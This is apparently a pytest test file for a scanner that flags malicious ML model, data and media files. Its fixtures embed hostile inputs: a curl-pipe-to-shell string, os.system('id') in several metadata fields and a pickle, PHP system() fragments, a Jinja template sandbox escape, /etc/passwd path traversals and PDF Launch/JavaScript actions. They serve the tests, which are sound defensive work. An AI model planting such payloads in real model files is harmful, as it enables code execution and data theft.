"""Every trick on a header, a gap, a tail or an instruction is flagged by the rule that names it."""

import base64
import sqlite3
import struct
import zlib
from contextlib import closing

import pytest

from budmodel_scanner.content import MemoryContent, Place
from budmodel_scanner.formats import npy
from budmodel_scanner.router import examine_file
from budmodel_scanner.verdict import Verdict, verdict_of
from tests.corpus import binaries
from tests.corpus import tensor_headers as headers
from tests.corpus.small_binaries import record
from tests.unit.budmodel_scanner import format_samples as sample
from tests.unit.budmodel_scanner.format_examination import examined, rules, verdict

F32 = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
ENCODED = base64.b64encode(sample.PICKLE).decode()


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (headers.safetensors({"w": F32, "v": F32}, bytes(4)), "safetensors.overlap"),
        (headers.safetensors({"w": {**F32, "data_offsets": [4, 8]}}, bytes(8)), "safetensors.gap"),
        (headers.safetensors({"w": F32}, bytes(4) + b"tail"), "safetensors.trailing-bytes"),
        (headers.safetensors({"w": F32}, bytes(3)), "safetensors.truncated"),
        (headers.safetensors({"w": {**F32, "shape": [2]}}, bytes(4)), "safetensors.size"),
        (headers.safetensors({"w": {**F32, "shape": [1 << 40, 1 << 40]}}, bytes(4)), "safetensors.size"),
        (headers.safetensors({"w": {**F32, "dtype": "PY"}}, bytes(4)), "safetensors.dtype"),
        (headers.safetensors({"w": {**F32, "data_offsets": [-4, 0]}}, bytes(4)), "safetensors.tensor"),
        (headers.safetensors({"w": {**F32, "shape": [True]}}, bytes(4)), "safetensors.tensor"),
        (headers.safetensors({"w": {**F32, "code": "x"}}, bytes(4)), "safetensors.tensor"),
        (headers.safetensors({"w\0": F32}, bytes(4)), "safetensors.name"),
        (headers.safetensors({"__metadata__": {"a": 1}}, b""), "safetensors.metadata"),
        (headers.safetensors({"__metadata__": []}, b""), "safetensors.metadata"),
        (headers.safetensors({"__metadata__": {"a": ENCODED}}, b""), "safetensors.payload-in-metadata"),
        (headers.safetensors({"__metadata__": {"a": "__import__('os')"}}, b""), "safetensors.payload-in-metadata"),
        (headers.safetensors('{"__metadata__":{"a":"b"},"__metadata__":{}}', b""), "safetensors.duplicate-key"),
        (headers.safetensors('{"a":NaN}', b""), "safetensors.header"),
        (headers.safetensors("{}\n\t", b""), "safetensors.padding"),
        ((1 << 63).to_bytes(8, "little") + b"{}", "safetensors.header-too-large"),
        ((4096).to_bytes(8, "little") + b"{}", "safetensors.truncated"),
    ],
)
def test_safetensors(data: bytes, rule: str) -> None:
    assert rule in rules(data, "model.safetensors")
    assert verdict(data, "model.safetensors") is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("data", "rule", "expected"),
    [
        (headers.gguf(weight_count=1 << 60), "gguf.overflow", Verdict.MALICIOUS),
        (headers.gguf(pair_count=1 << 60), "gguf.overflow", Verdict.MALICIOUS),
        (headers.gguf(pair_count=3000), "gguf.counts", Verdict.SUSPICIOUS),
        (headers.gguf(version=9), "gguf.version", Verdict.SUSPICIOUS),
        (headers.gguf([sample.gguf_entry("general.alignment", 0)]), "gguf.alignment", Verdict.SUSPICIOUS),
        (headers.gguf([sample.gguf_entry("a", 1), sample.gguf_entry("a", 1)]), "gguf.duplicate-name", Verdict.SUSPICIOUS),
        (headers.gguf([sample.gguf_entry("note", ENCODED)]), "gguf.payload-in-metadata", Verdict.SUSPICIOUS),
        (headers.gguf([headers.string("k") + struct.pack("<I", 99)]), "gguf.value-type", Verdict.SUSPICIOUS),
        (headers.gguf([headers.string("k") + struct.pack("<IIQ", 9, 9, 1)]), "gguf.value-type", Verdict.SUSPICIOUS),
        (headers.gguf([headers.string("k") + struct.pack("<IQ", 8, 1 << 63)]), "gguf.overflow", Verdict.MALICIOUS),
        (headers.gguf(weights=[headers.weight(shape=(1 << 32, 1 << 32))]), "gguf.overflow", Verdict.MALICIOUS),
        (headers.gguf(weights=[headers.weight(shape=(1,) * 9)]), "gguf.dimensions", Verdict.SUSPICIOUS),
        (headers.gguf(weights=[headers.weight(kind=60_000)]), "gguf.tensor-type", Verdict.SUSPICIOUS),
        (headers.gguf(weights=[headers.weight()], data=bytes(8)), "gguf.truncated", Verdict.SUSPICIOUS),
        (
            headers.gguf(weights=[headers.weight("a"), headers.weight("b")], data=bytes(32)),
            "gguf.overlap",
            Verdict.SUSPICIOUS,
        ),
        (headers.gguf(weights=[headers.weight(offset=64)], data=bytes(96)), "gguf.gap", Verdict.SUSPICIOUS),
        (sample.plain_gguf() + sample.PICKLE, "gguf.trailing-bytes", Verdict.SUSPICIOUS),
    ],
)
def test_gguf(data: bytes, rule: str, expected: Verdict) -> None:
    assert rule in rules(data, "model.gguf")
    assert verdict(data, "model.gguf") is expected


def test_a_template_in_gguf_is_examined_as_one() -> None:
    attack = "{{ ''.__class__.__mro__[1].__subclasses__() }}"

    for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use"):
        assert verdict(headers.gguf([sample.gguf_entry(key, attack)]), "model.gguf").rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (sample.npy(header=b"__import__('os').system('id')"), "npy.payload-in-header"),
        (sample.npy(header=b"{'descr': '<f4', 'shape': (2, 2)}"), "npy.header"),
        (sample.npy(shape="(3, 2)"), "npy.truncated"),
        (sample.npy(shape="(-1,)"), "npy.header"),
        (sample.npy(shape="(2**40, 2)"), "npy.header"),
        (sample.npy(shape="(1099511627776, 1099511627776)"), "npy.overflow"),
        (sample.npy(data=bytes(16) + sample.PICKLE), "npy.trailing-bytes"),
        (sample.npy(descr="'<q99z'"), "npy.type"),
        (b"\x93NUMPY\x09\x00" + sample.npy()[8:], "npy.version"),
    ],
)
def test_npy(data: bytes, rule: str) -> None:
    assert rule in rules(data, "a.npy")
    assert verdict(data, "a.npy").rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize("descr", ["'|O'", "[('a', '<f4'), ('b', '|O')]", "[('a', [('b', ('|O', (2,)))])]"])
def test_objects_in_an_array_are_read_as_the_pickle_that_they_are(descr: str) -> None:
    assert verdict(sample.npy(descr, "(1,)", sample.PICKLE), "a.npy") is Verdict.MALICIOUS


def external(location: bytes) -> bytes:
    entry = proto_entry(b"location", location)
    return sample.onnx(initializer=sample.proto((1, 2), (2, 1), (8, b"w"), (13, entry), (14, 1)))


def proto_entry(key: bytes, value: bytes) -> bytes:
    return sample.proto((1, key), (2, value))


@pytest.mark.parametrize(
    "location",
    [
        b"../../etc/passwd",
        b"/etc/passwd",
        b"C:\\Windows\\x",
        b"file:///etc/passwd",
        b"https://x.example/w",
        b"a/../../b",
        b"\\\\h\\s",
    ],
)
def test_external_data_of_onnx_may_not_leave_the_repository(location: bytes) -> None:
    assert verdict(external(location), "m.onnx") is Verdict.MALICIOUS
    assert verdict(external(b"weights/m.onnx_data"), "m.onnx") is Verdict.SAFE


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (sample.onnx(domain=b"evil.ops"), "onnx.custom-domain"),
        (sample.onnx(operator=b"PyOp", domain=b"ai.onnx.contrib"), "onnx.python-operator"),
        (sample.onnx(model=sample.proto((99, sample.PICKLE))), "onnx.unknown-field"),
        (sample.onnx(model=b"\xff\xff\xff"), "onnx.truncated"),
        (sample.onnx(model=sample.PICKLE), "onnx.protobuf"),
        (sample.onnx(model=sample.proto((14, proto_entry(b"k", ENCODED.encode())))), "onnx.payload-in-metadata"),
        (sample.onnx(initializer=sample.proto((1, 9), (2, 1), (9, bytes(8)))), "onnx.size"),
        (sample.onnx(initializer=sample.proto((1, (1 << 64) - 1), (2, 1), (9, bytes(8)))), "onnx.overflow"),
        (
            sample.onnx(initializer=sample.proto((1, 7), (2, 2), (9, b"\x7fELF\2\1\1"))),
            "onnx.payload-in-tensor",
        ),
        (sample.proto((1, 8), (2, b"x"), (8, sample.proto((2, 17)))), "onnx.no-graph"),
    ],
)
def test_onnx(data: bytes, rule: str) -> None:
    assert rule in rules(data, "m.onnx")
    assert verdict(data, "m.onnx").rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize("operator", [b"ReadFile", b"WriteFile", b"PyFunc", b"EagerPyFunc", b"MatchingFiles"])
def test_operators_that_reach_files_or_python_are_malicious(operator: bytes) -> None:
    graph = sample.proto((1, sample.proto((1, b"a"), (2, b"Const"))), (1, sample.proto((1, b"n"), (2, operator))))

    assert verdict(sample.saved_model(b"MatMul", operator), "saved_model.pb") is Verdict.MALICIOUS
    assert verdict(graph, "frozen.pb") is Verdict.MALICIOUS
    assert verdict(graph, "disguise.bin") is Verdict.MALICIOUS
    assert verdict(sample.tflite(f"Flex{operator.decode()}"), "m.tflite") is Verdict.MALICIOUS


def test_operators_inside_functions_count_and_calls_of_functions_do_not() -> None:
    def library(operator: bytes) -> bytes:
        function = sample.proto((1, sample.proto((1, b"__inference_f_1"))), (3, sample.proto((1, b"n"), (2, operator))))
        graph = sample.proto((1, sample.proto((1, b"c"), (2, b"__inference_f_1"))), (2, sample.proto((1, function))))
        return sample.proto((1, 1), (2, sample.proto((2, graph))))

    assert verdict(library(b"MatMul"), "saved_model.pb") is Verdict.SAFE
    assert verdict(library(b"WriteFile"), "saved_model.pb") is Verdict.MALICIOUS
    assert rules(library(b"HomeMade"), "saved_model.pb") == {"tensorflow.unknown-operator"}


def test_the_list_of_operators_in_a_graph_does_not_make_them_known() -> None:
    listed = sample.proto((2, sample.proto((1, sample.proto((1, b"HomeMade"))))))
    graph = sample.proto((1, sample.proto((1, b"n"), (2, b"HomeMade"))))
    data = sample.proto((1, 1), (2, sample.proto((1, listed), (2, graph))))

    assert rules(data, "saved_model.pb") == {"tensorflow.unknown-operator"}


def test_assets_and_trailing_bytes_of_a_saved_model() -> None:
    assert rules(sample.saved_model(b"Const", assets=[b"../../x"]), "saved_model.pb") == {"tensorflow.asset-path"}
    assert verdict(sample.saved_model(b"Const") + sample.PICKLE, "saved_model.pb") is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("data", "name", "rule"),
    [
        (sample.tflite("EvilLoader"), "m.tflite", "tflite.custom-operator"),
        (sample.tflite(data=b"\x7fELF\2\1\1" + bytes(20)), "m.tflite", "tflite.payload-in-buffer"),
        (sample.tflite(version=4), "m.tflite", "tflite.version"),
        (sample.tflite() + sample.PICKLE, "m.tflite", "tflite.trailing-bytes"),
        (sample.tflite()[:-8], "m.tflite", "tflite.truncated"),
        (sample.sentencepiece(sample.proto((77, sample.PICKLE))), "t.model", "sentencepiece.unknown-field"),
        (
            sample.sentencepiece(sample.proto((2, sample.proto((1, b"$(curl http://x | sh)"))))),
            "t.model",
            "sentencepiece.payload-in-metadata",
        ),
        (sample.sentencepiece(b"\xff"), "t.model", "sentencepiece.truncated"),
        (sample.coreml(555), "m.mlmodel", "coreml.custom-code"),
        (sample.coreml(layer=500), "m.mlmodel", "coreml.custom-code"),
        (sample.coreml(note=b"eval(x)"), "m.mlmodel", "coreml.payload-in-metadata"),
        (sample.coreml_blobs() + b"x", "weight.bin", "coreml.trailing-bytes"),
        (sample.msgpack(extension=42), "f.msgpack", "msgpack.extension"),
        (sample.msgpack(tail=sample.PICKLE), "f.msgpack", "msgpack.trailing-bytes"),
        (b"\x81\xc4\x04data\xc4\x12\x80\x04}(X\x05\0\0\0epochK\x01u.", "model", "msgpack.payload"),
        (b"\xdf\xff\xff\xff\xff", "f.msgpack", "msgpack.counts"),
        (b"\x81" * 300 + bytes(300), "f.msgpack", "msgpack.depth"),
        (sample.ubjson(tail=sample.PICKLE), "b.ubj", "ubjson.trailing-bytes"),
        (sample.ubjson(note=b"os.system('id')"), "b.ubj", "ubjson.payload-in-metadata"),
        (sample.booster(note=b"os.system('id')"), "b.model", "ubjson.payload-in-metadata"),
        (b"{i\x01a" + b"[" * 300, "b.ubj", "ubjson.depth"),
        (b"{i\x01a[$U#l\x7f\xff\xff\xff", "b.ubj", "ubjson.truncated"),
        ((1 << 60).to_bytes(8, "little") + bytes(20), "events.out.tfevents.1.host", "event-log.checksum"),
        (record(sample.PICKLE), "a.tfrecord", "event-log.payload"),
        (record(sample.proto((1, b"x")))[:-1] + b"!", "a.tfrecord", "event-log.checksum"),
        (record(b"") + sample.PICKLE, "a.tfrecord", "event-log.checksum"),
        (b"x" + sample.checkpoint_index(), "v.index", ""),
        (sample.checkpoint_index()[:-48] + bytes(9) + sample.checkpoint_index()[-48:], "v.index", "checkpoint.gap"),
        (sample.checkpoint_index() + b"x", "v.index", "checkpoint.footer"),
        (sample.parquet() + sample.PICKLE, "a.parquet", "parquet.footer"),
        (sample.parquet({"note": "import os; os.system('id')"}), "a.parquet", "parquet.payload-in-metadata"),
        (sample.arrow_stream() + sample.PICKLE, "a.arrow", "arrow.trailing-bytes"),
        (sample.arrow_stream()[:-20], "a.arrow", "arrow.truncated"),
    ],
)
def test_other_model_and_data_formats(data: bytes, name: str, rule: str) -> None:
    assert rule in (rules(data, name) or {""})
    assert not rule or verdict(data, name).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(
    ("data", "name", "rule"),
    [
        (binaries.png() + b"tail", "a.png", "inert.trailing-bytes"),
        (binaries.png(binaries.png_chunk(b"tEXt", b"a\0<?php x")), "a.png", "inert.holds-content"),
        (binaries.png(binaries.png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"<script>"))), "a.png", "inert.holds-content"),
        (
            binaries.png(binaries.png_chunk(b"iTXt", b"a\0\1\0\0\0" + zlib.compress(b"<script>"))),
            "a.png",
            "inert.holds-content",
        ),
        (binaries.png(binaries.png_chunk(b"EVIL", b"")), "a.png", "inert.chunk"),
        (binaries.png().replace(b"\x08\x02\x00\x00\x00", b"\x08\x06\x00\x00\x00"), "a.png", "inert.chunk"),
        (binaries.png()[:-12], "a.png", "inert.truncated"),
        (sample.jpeg(tail=b"tail"), "a.jpg", "inert.end"),
        (sample.jpeg(b"<?php system($x);"), "a.jpg", "inert.holds-content"),
        (sample.jpeg()[:-2], "a.jpg", "inert.end"),
        (sample.gif(b"tail"), "a.gif", "inert.trailing-bytes"),
        (sample.gif()[:13] + b"x" + sample.gif()[13:], "a.gif", "inert.block"),
        (sample.wav(tail=b"tail"), "a.wav", "inert.trailing-bytes"),
        (sample.wav()[:-2], "a.wav", "inert.truncated"),
        (sample.mp4(b"tail"), "a.mp4", "inert.trailing-bytes"),
        (sample.mp4(struct.pack(">I4sQ", 1, b"free", 7)), "a.mp4", "inert.length"),
        (sample.flac(b"\x7fELF\2\1\1!"), "a.flac", "inert.holds-content"),
        (sample.mp3(b"#!/bin/sh\nid\n"), "a.mp3", "inert.holds-content"),
        (sample.bmp(b"tail" * 9), "a.bmp", "inert.trailing-bytes"),
        (sample.woff(table=b"\x7fELF\2\1\1".ljust(16, b"\0")), "a.woff", "inert.holds-content"),
        (sample.woff(length=1 << 20), "a.woff", "inert.truncated"),
        (sample.woff2(length=50), "a.woff2", "inert.trailing-bytes"),
        (sample.matlab(16), "a.mat", "serializer.runs-code"),
        (sample.matlab(3), "a.mat", "serializer.runs-code"),
        (sample.pdf(tail=sample.PICKLE), "a.pdf", "pdf.trailing-bytes"),
        (b"junk" + sample.pdf(), "a.pdf", "pdf.leading-bytes"),
        (sample.pdf(b"<< /S /JavaScript /JS (x) >>"), "a.pdf", "pdf.action"),
        (sample.pdf(b"<< /S /J#61vaScript >>"), "a.pdf", "pdf.action"),
        (sample.pdf(sample.pdf_stream(b"/Type /ObjStm", b"<< /S /Launch >>")), "a.pdf", "pdf.action"),
        (sample.pdf(sample.pdf_stream(b"/Type /O#62jStm", b"<< /S /Launch >>")), "a.pdf", "pdf.action"),
        (sample.pdf(sample.pdf_stream(b"", b"\x7fELF\2\1\1")), "a.pdf", "pdf.payload-in-stream"),
        (sample.pdf().replace(b"%%EOF", b""), "a.pdf", "pdf.truncated"),
    ],
)
def test_media(data: bytes, name: str, rule: str) -> None:
    assert rule in rules(data, name)
    assert verdict(data, name) is Verdict.SUSPICIOUS


def test_a_pickle_without_a_frame_in_a_database() -> None:
    loads = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
    for held, expected in ((loads, True), (loads.replace(b"\x93", b"\x86"), False)):
        with closing(sqlite3.connect(":memory:")) as database:
            database.execute("create table a (b blob)")
            database.execute("insert into a values (?)", (held,))
            database.commit()
            assert (verdict(database.serialize(), "cache.db").rank >= Verdict.SUSPICIOUS.rank) is expected


@pytest.mark.parametrize(
    "kind", [*("png", "jpg", "gif", "bmp", "ico", "tiff"), *("mp4", "ogg", "flac", "mp3"), *("ttf", "ttc", "woff", "woff2")]
)
@pytest.mark.parametrize("tail", [sample.PICKLE, b"\x7fELF\2\1\1", b"PK\5\6" + bytes(18), b"#!/bin/sh\nid\n"])
def test_what_stands_behind_media_and_loads_or_runs(kind: str, tail: bytes) -> None:
    data = sample.BENIGN[f"a.{kind}"]() + tail
    assert "inert.holds-content" in rules(data, f"a.{kind}")
    assert verdict(data, f"a.{kind}").rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\2\1\1" + bytes(60),
        b"MZ\x90\0" + bytes(60),
        b"\xcf\xfa\xed\xfe" + bytes(30),
        b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(30),
        b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(30),
        b"dex\n035\0" + bytes(30),
        b"\0asm\1\0\0\0",
        b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        b"L\0\0\0\1\x14\2\0" + bytes(60),
        b"!<arch>\n",
        b"ptrt" + bytes(60),
        rb"{\rtf1\ansi a}",
        rb"{\rt1{\*\template http://x.invalid/a.dot}}",
        b"{\\rt\n\\ansi a}",
    ],
)
def test_programs_are_suspicious_under_any_name(data: bytes) -> None:
    for name in ("model.safetensors", "pytorch_model.bin", "lib.so"):
        assert [finding.rule.partition(".")[0] for finding in examined(data, name)] == ["executable"]
        assert verdict(data, name) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    ("data", "name"),
    [(b"lmgg" + bytes(60), "ggml-base.bin"), (struct.pack("<I", 12) + b"ET12" + struct.pack("<HHi", 4, 4, 4), "m.pte")],
)
def test_formats_that_nobody_can_read_here_are_unscanned(data: bytes, name: str) -> None:
    found = list(examine_file(MemoryContent(data), Place(name)))
    assert verdict_of(found) is Verdict.UNSCANNED
    assert "is a model of" in found[0].what


def test_a_member_with_fewer_bytes_than_its_container_claims_is_malformed_and_no_accident() -> None:
    class Short:
        """Claims more than it has, as a member whose header lies."""

        size = 224

        def read(self, offset: int, length: int) -> bytes:
            return b"\x93NUMPY"[offset : offset + length]

    found = list(npy.examine(Short(), Place("x.npy"), lambda *_: iter(())))
    assert [finding.rule for finding in found] == ["npy.truncated"]


def test_what_a_finding_says_is_the_same_in_every_run() -> None:
    found = examined(sample.npy(header=b"{'descr': open('x')}"), "a.npy")
    assert [finding.rule for finding in found][:1] == ["npy.header"]
    assert "0x" not in found[0].what
